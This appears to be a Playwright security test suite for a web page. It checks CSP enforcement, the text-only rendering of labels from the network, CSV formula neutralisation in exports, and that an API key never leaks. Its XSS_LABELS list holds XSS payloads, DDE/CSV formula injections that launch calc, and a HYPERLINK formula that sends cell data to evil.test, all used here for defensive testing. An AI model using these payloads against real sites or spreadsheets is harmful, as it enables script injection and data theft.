// Security. The release page runs under its own
// Content-Security-Policy (index.html's meta, with the sha256 of Trunk's
// inline loader added by scripts/csp-hashes.mjs) and works under it; labels
// from the network are text, never markup or script; the key stays in memory.
import { test, expect, Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { Emulator, keyTag } from '../support/emulator';
import { PacerPage } from '../support/pacer-page';
import { storedText } from '../support/storage';

const LIMITER = ['--limiter', 'fixed-window', '--limit', '8', '--latency-ms', '100'];

/** The emulator's `--xss-labels` strings (emulator/src/faults.rs), in order. */
const XSS_LABELS = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "+1+cmd|' /C calc'!A0",
  '"><svg onload=alert(1)>',
  "-2+3+cmd|' /C calc'!A0",
  'javascript:alert(1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "' onmouseover='alert(1)' x='",
  '\t=1+1',
  '</td></tr></table><iframe src=javascript:alert(1)>',
  '\r=1+1',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "{{constructor.constructor('alert(1)')()}}",
];

/** The cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes, line breaks). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
    else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

let plain: Emulator;
let hostile: Emulator;

test.beforeAll(async () => {
  plain = await Emulator.start(LIMITER);
  hostile = await Emulator.start([...LIMITER, '--xss-labels']);
});
test.afterAll(async () => {
  await plain?.stop();
  await hostile?.stop();
});

/** What the page did that a test must see: dialogs, console, errors, CSP violations. */
interface Watch {
  dialogs: string[];
  console: { type: string; text: string }[];
  pageErrors: string[];
  violations(): Promise<{ directive: string; blocked: string; sample: string }[]>;
}

/** Starts recording, before the page's first script runs. */
async function watch(page: Page): Promise<Watch> {
  const w: Omit<Watch, 'violations'> = { dialogs: [], console: [], pageErrors: [] };
  page.on('dialog', async (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    await d.dismiss();
  });
  page.on('console', (m) => w.console.push({ type: m.type(), text: m.text() }));
  page.on('pageerror', (e) => w.pageErrors.push(String(e)));
  // Playwright's init scripts are not subject to the page's CSP.
  await page.addInitScript(() => {
    const seen: unknown[] = [];
    (window as unknown as { __csp: unknown[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (e) => {
      seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
  return {
    ...w,
    violations: () => page.evaluate(() => (window as unknown as { __csp: never[] }).__csp),
  };
}

/** The page's CSP (from its meta), directive → sources. */
async function policy(page: Page): Promise<Map<string, string[]>> {
  const content = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(content, 'the page carries a CSP meta').toBeTruthy();
  const map = new Map<string, string[]>();
  for (const directive of content!.split(';')) {
    const [name, ...sources] = directive.trim().split(/\s+/);
    if (name) map.set(name.toLowerCase(), sources);
  }
  return map;
}

async function run(pacer: PacerPage, count: number): Promise<void> {
  await pacer.loadSamples(count);
  await pacer.byId('start').click();
  await pacer.waitForState('done', 30_000);
  expect(await pacer.number('stat-done')).toBe(count);
  expect(await pacer.number('stat-failed')).toBe(0);
}

test('the page runs under its CSP: no violation, no console error, worker timers, fetch and wasm all work', async ({ page }) => {
  const w = await watch(page);
  const pacer = new PacerPage(page);
  await pacer.open(plain.url, { rate: 8, concurrency: 4 });

  // The policy is strict: the page's own scripts and wasm, Trunk's loader by
  // its hash, no inline or eval'd script, no inline style.
  const csp = await policy(page);
  expect(csp.get('default-src')).toEqual(["'none'"]);
  const scriptSrc = csp.get('script-src')!;
  expect(scriptSrc).toEqual(expect.arrayContaining(["'self'", "'wasm-unsafe-eval'"]));
  expect(scriptSrc.filter((s) => s.startsWith("'sha256-")).length).toBeGreaterThanOrEqual(1);
  expect(scriptSrc).not.toContain("'unsafe-inline'");
  expect(scriptSrc).not.toContain("'unsafe-eval'");
  expect(scriptSrc).not.toContain("'strict-dynamic'");
  expect(csp.get('style-src')).toEqual(["'self'"]);
  expect(csp.get('worker-src')).toEqual(['blob:']);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  expect(csp.get('base-uri')).toEqual(["'none'"]);
  expect(csp.get('form-action')).toEqual(["'none'"]);
  expect(csp.get('connect-src')).toEqual(
    expect.arrayContaining(["'self'", 'https:', 'http://127.0.0.1:*', 'http://localhost:*']),
  );

  await run(pacer, 12);
  expect(plain.log().filter((l) => l.status === 200)).toHaveLength(12);

  expect(await w.violations()).toEqual([]);
  expect(w.pageErrors).toEqual([]);
  expect(w.console.filter((m) => m.type === 'error')).toEqual([]);
  // The pacer's sleeps ran on the worker started from a blob: URL, not on
  // the page's throttled timers.
  expect(w.console.filter((m) => /no timer worker/i.test(m.text))).toEqual([]);
  expect(page.workers().map((wk) => wk.url())).toContainEqual(expect.stringMatching(/^blob:/));
  expect(w.dialogs).toEqual([]);

  // And it is in force: an injected inline script, an inline event handler,
  // eval and an inline style attribute are all refused.
  const probe = await page.evaluate(async () => {
    const win = window as unknown as Record<string, unknown>;
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.body.append(s);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__handlerRan = true');
    img.src = 'data:,not-an-image';
    document.body.append(img);
    // eval from a timer callback: the page's own code, not DevTools'
    // evaluation (which may always eval).
    const evalRan = await new Promise<boolean>((done) =>
      setTimeout(() => {
        try {
          done((0, eval)('true') === true);
        } catch {
          done(false);
        }
      }, 0),
    );
    const div = document.createElement('div');
    div.setAttribute('style', 'width: 123px');
    document.body.append(div);
    await new Promise((r) => setTimeout(r, 200));
    const width = div.getBoundingClientRect().width;
    s.remove();
    img.remove();
    div.remove();
    return { inline: win.__inlineRan === true, handler: win.__handlerRan === true, evalRan, styled: width === 123 };
  });
  expect(probe).toEqual({ inline: false, handler: false, evalRan: false, styled: false });
  const refused = (await w.violations()).map((v) => v.directive).sort();
  expect(refused).toEqual(['script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']);
});

test('hostile labels are shown as text: no dialog, no element or handler from them', async ({ page }) => {
  const w = await watch(page);
  const pacer = new PacerPage(page);
  // Detections first: the emulator hands out its hostile strings in the
  // order labels come, so more of them land in shown chips.
  await pacer.open(hostile.url, { rate: 8, concurrency: 4, models: 're_features_v4,re_roomtype_global_v2' });
  await run(pacer, 12);
  await expect(page.locator('[data-testid="result-row"][data-state="done"]')).toHaveCount(12);
  // Give any injected handler (an <img onerror>, an <svg onload>) time to fire.
  await page.waitForTimeout(500);

  expect(w.dialogs).toEqual([]);
  // Nothing the labels spelled became an element...
  const rows = page.getByTestId('result-row');
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(rows.locator('svg, script, iframe, img:not(.thumb)')).toHaveCount(0);
  await expect(page.locator('svg[onload], iframe, body script')).toHaveCount(0);
  // ...and no element anywhere carries an inline handler (Leptos attaches
  // its listeners with addEventListener).
  const handlers = await page.evaluate(() =>
    Array.from(document.querySelectorAll('*')).flatMap((el) =>
      Array.from(el.attributes)
        .filter((a) => a.name.toLowerCase().startsWith('on'))
        .map((a) => `${el.tagName}[${a.name}]`),
    ),
  );
  expect(handlers).toEqual([]);

  // The hostile strings are there, verbatim, as text: every shown label is
  // exactly one of the emulator's strings (nothing decoded, cut or dropped).
  const shown = await rows.evaluateAll((els) =>
    els.flatMap((row) =>
      Array.from(row.querySelectorAll('.top-label, .chip')).map((el) => el.firstChild?.textContent ?? ''),
    ),
  );
  expect(shown.length).toBeGreaterThanOrEqual(24);
  for (const label of shown) expect(XSS_LABELS).toContain(label);
  // Which strings land in a row depends on how many distinct labels each
  // answer has (the emulator draws them from the image URL, whose port
  // changes every run); the first two of every answer always show.
  expect(new Set(shown).size).toBeGreaterThanOrEqual(3);
  for (const label of XSS_LABELS.slice(0, 2)) {
    expect(shown, `label ${label}`).toContain(label);
    await expect(rows.filter({ hasText: label }).first(), `label ${label}`).toBeVisible();
  }

  // Had anything been injected, the CSP would also have refused it: nothing
  // was even tried.
  expect(await w.violations()).toEqual([]);
  expect(w.pageErrors).toEqual([]);

  // The CSV export: no cell a spreadsheet would take for a formula; the
  // formula labels are there, neutralised by a leading '.
  const [download] = await Promise.all([page.waitForEvent('download'), pacer.byId('export-csv').click()]);
  const cells = csvCells(readFileSync((await download.path())!, 'utf8')).flat();
  expect(cells.length).toBeGreaterThan(12 * 8);
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  expect(cells.some((c) => c.startsWith(`'${XSS_LABELS[0]}`))).toBe(true);
});

test('the key never reaches the page URL, the exports, the console or storage', async ({ page }) => {
  const KEY = 'zz-canary-key-5Q8wX2vR7';
  const w = await watch(page);
  const urls: string[] = [];
  page.on('framenavigated', (f) => urls.push(f.url()));
  const pacer = new PacerPage(page);
  await pacer.open(plain.url, { rate: 8, concurrency: 4 });
  await pacer.byId('client-key').fill(KEY);
  const before = plain.log().length;
  await run(pacer, 12);
  // The typed key is the one that was sent.
  const sent = plain.log().slice(before);
  expect(sent).toHaveLength(12);
  expect(sent.every((l) => l.key === keyTag(KEY))).toBe(true);
  // The access log holds no key (a tag of it), and every request was a POST.
  expect(readFileSync(plain.logPath, 'utf8')).not.toContain(KEY);
  expect(sent.every((l) => l.method === 'POST')).toBe(true);

  // The page URL, now and at every navigation.
  expect(page.url()).not.toContain(KEY);
  expect(urls.filter((u) => u.includes(KEY))).toEqual([]);

  // The downloads.
  for (const id of ['export-csv', 'export-json']) {
    const [download] = await Promise.all([page.waitForEvent('download'), pacer.byId(id).click()]);
    const body = readFileSync((await download.path())!, 'utf8');
    expect(body.length, id).toBeGreaterThan(100);
    expect(body, id).not.toContain(KEY);
    expect(download.suggestedFilename(), id).not.toContain(KEY);
  }

  // The console, whatever its level.
  expect(w.console.filter((m) => m.text.includes(KEY))).toEqual([]);

  // The browser's storage: localStorage, sessionStorage, cookies, IndexedDB.
  const stored = await storedText(page, { webStorage: true });
  // The run was saved (so this looked at the right place), without the key.
  expect(stored).toContain('/samples/img-0001.jpg');
  expect(stored).not.toContain(KEY);
});

test('a host policy that forbids blob: workers: the page falls back to page timers and still finishes', async ({ page }) => {
  const w = await watch(page);
  // Serve index.html with worker-src removed (default-src 'none' then
  // forbids the timer worker), as a stricter host might.
  await page.route('**/*', async (route) => {
    const res = await route.fetch();
    const type = res.headers()['content-type'] ?? '';
    if (!type.includes('text/html')) return route.fulfill({ response: res });
    const body = (await res.text()).replace(/worker-src blob:; /g, '');
    return route.fulfill({ response: res, body });
  });
  const pacer = new PacerPage(page);
  await pacer.open(plain.url, { rate: 8, concurrency: 4 });
  expect((await policy(page)).has('worker-src')).toBe(false);
  await run(pacer, 6);
  expect(w.console.some((m) => m.text.includes('timer worker failed'))).toBe(true);
});
